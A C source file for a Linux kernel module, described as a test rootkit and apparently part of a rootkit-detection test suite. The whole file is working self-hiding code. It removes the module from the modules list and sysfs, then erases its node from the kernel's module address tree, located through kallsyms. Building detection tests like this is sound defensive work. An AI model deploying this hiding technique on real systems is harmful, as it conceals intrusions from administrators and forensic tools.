// Test rootkit: hides itself everywhere the kernel lists modules: the `modules`
// list, /sys/module and, a second after its init (when the kernel has dropped its
// init memory from the tree), the module address tree: its core node is erased from
// mod_tree (found through kallsyms) as mod_tree_remove would. Only its memory is
// left: the code it runs and its struct module.
#include <linux/kobject.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/rbtree_latch.h>
#include <linux/workqueue.h>

#include "nfm_rk.h"

// struct mod_tree_root begins with its latch_tree_root (kernel/module internals).
static struct latch_tree_root* tree;

static void leave_tree(struct work_struct* work) {
  latch_tree_erase(&THIS_MODULE->core_layout.mtn.node, tree, NULL);
  pr_info("nfm_rk_hide_deep: left the module address tree\n");
}
static DECLARE_DELAYED_WORK(later, leave_tree);

static int __init hide_deep_init(void) {
  tree = (struct latch_tree_root*)nfm_rk_lookup("mod_tree");
  if (!tree) {
    pr_info("nfm_rk_hide_deep: no mod_tree in kallsyms\n");
    return -ENOENT;
  }
  list_del_init(&THIS_MODULE->list);
  kobject_del(&THIS_MODULE->mkobj.kobj);
  schedule_delayed_work(&later, HZ);
  pr_info("nfm_rk_hide_deep: hidden\n");
  return 0;
}

module_init(hide_deep_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("nfm test rootkit: module self-hiding, address tree included");
